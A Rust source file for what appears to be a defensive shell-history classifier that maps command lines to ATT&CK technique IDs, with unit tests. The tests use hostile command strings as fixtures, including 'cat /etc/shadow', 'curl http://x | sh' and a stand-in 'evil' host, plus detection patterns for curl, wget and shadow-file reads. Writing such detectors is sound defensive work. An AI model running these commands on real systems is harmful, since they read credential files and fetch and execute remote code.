//! # Line Classifier
//!
//! Tests one history line against every rule in the store. Pure function:
//! no state, no side effects, so the same (line, rule set) pair always
//! classifies identically.
//!
//! Matching semantics:
//! - every rule is tested; all matching rules are reported (techniques are
//!   not mutually exclusive, and an auditable report should not hide
//!   secondary matches);
//! - within a rule, patterns are tested in declared order and the first
//!   match wins, so at most one `Match` exists per (rule, line);
//! - literal patterns are case-insensitive substrings, regex patterns
//!   match anywhere in the line;
//! - zero matches is a normal outcome, not an error.

pub mod aggregate;

pub use aggregate::Aggregator;

use crate::rules::RuleStore;
use crate::{HistoryLine, Match};

/// Classify one history line against the rule store.
///
/// # Arguments
/// * `line` - The command line to classify. Blank lines are the walker's
///   problem; they never reach this function.
/// * `rules` - The loaded rule store.
///
/// # Returns
/// All matches in rule declaration order; empty for benign commands.
pub fn classify(line: &HistoryLine, rules: &RuleStore) -> Vec<Match> {
    // Lower once per line; literal patterns compare against this.
    let lowered = line.raw.to_lowercase();

    let mut matches = Vec::new();
    for rule in rules.rules() {
        if let Some(pattern) = rule
            .patterns
            .iter()
            .find(|p| p.matches(&line.raw, &lowered))
        {
            matches.push(Match {
                technique_id: rule.technique_id.clone(),
                line_number: line.number,
                matched_pattern: pattern.text().to_string(),
                command: line.raw.clone(),
            });
        }
    }
    matches
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::{Annotation, PatternSpec, RuleStore};
    use crate::rules::dataset::TechniqueCatalog;

    fn store(annotations: Vec<Annotation>) -> RuleStore {
        RuleStore::load(&TechniqueCatalog::new(), &annotations).unwrap()
    }

    fn line(raw: &str) -> HistoryLine {
        HistoryLine {
            raw: raw.to_string(),
            number: 1,
        }
    }

    fn lit(text: &str) -> PatternSpec {
        PatternSpec::Literal(text.to_string())
    }

    #[test]
    fn test_literal_match() {
        let rules = store(vec![Annotation::new("T1003.008", vec![lit("/etc/shadow")])]);
        let matches = classify(&line("cat /etc/shadow"), &rules);
        assert_eq!(matches.len(), 1);
        assert_eq!(matches[0].technique_id, "T1003.008");
        assert_eq!(matches[0].matched_pattern, "/etc/shadow");
        assert_eq!(matches[0].command, "cat /etc/shadow");
    }

    #[test]
    fn test_case_insensitive_literal() {
        let rules = store(vec![Annotation::new("T1105", vec![lit("curl")])]);
        assert_eq!(classify(&line("CURL http://x"), &rules).len(), 1);
    }

    #[test]
    fn test_regex_match_anywhere() {
        let rules = store(vec![Annotation::new(
            "T1059.004",
            vec![PatternSpec::Regex(r"\|\s*sh\b".to_string())],
        )]);
        assert_eq!(classify(&line("curl http://x | sh"), &rules).len(), 1);
    }

    #[test]
    fn test_unclassified_line_is_empty_not_error() {
        let rules = store(vec![Annotation::new("T1003.008", vec![lit("/etc/shadow")])]);
        assert!(classify(&line("ls -la"), &rules).is_empty());
    }

    #[test]
    fn test_multiple_rules_all_reported() {
        let rules = store(vec![
            Annotation::new("T1003.008", vec![lit("/etc/shadow")]),
            Annotation::new("T1005", vec![lit("cat ")]),
        ]);
        let matches = classify(&line("cat /etc/shadow"), &rules);
        let ids: Vec<_> = matches.iter().map(|m| m.technique_id.as_str()).collect();
        assert_eq!(ids, vec!["T1003.008", "T1005"]);
    }

    #[test]
    fn test_first_pattern_wins_within_rule() {
        // Both patterns match; the first declared one is recorded.
        let rules = store(vec![Annotation::new(
            "T1105",
            vec![lit("curl"), lit("http")],
        )]);
        let matches = classify(&line("curl http://x"), &rules);
        assert_eq!(matches.len(), 1);
        assert_eq!(matches[0].matched_pattern, "curl");
    }

    #[test]
    fn test_declaration_order_not_length_breaks_tie() {
        // Longer, more specific pattern declared second still loses.
        let rules = store(vec![Annotation::new(
            "T1105",
            vec![lit("curl"), lit("curl http://evil")],
        )]);
        let matches = classify(&line("curl http://evil/x"), &rules);
        assert_eq!(matches[0].matched_pattern, "curl");
    }

    #[test]
    fn test_classification_is_idempotent() {
        let rules = store(vec![
            Annotation::new("T1003.008", vec![lit("/etc/shadow")]),
            Annotation::new("T1005", vec![lit("cat ")]),
        ]);
        let l = line("cat /etc/shadow");
        assert_eq!(classify(&l, &rules), classify(&l, &rules));
    }

    #[test]
    fn test_match_provenance() {
        // Every match's id is in the rule set and its pattern is drawn
        // from that rule's patterns.
        let rules = store(vec![
            Annotation::new("T1105", vec![lit("curl"), lit("wget")]),
            Annotation::new("T1049", vec![lit("netstat")]),
        ]);
        for raw in ["curl x", "wget x", "netstat -an", "curl x; netstat"] {
            for m in classify(&line(raw), &rules) {
                let rule = rules.get(&m.technique_id).expect("id from rule set");
                assert!(rule.patterns.iter().any(|p| p.text() == m.matched_pattern));
            }
        }
    }
}
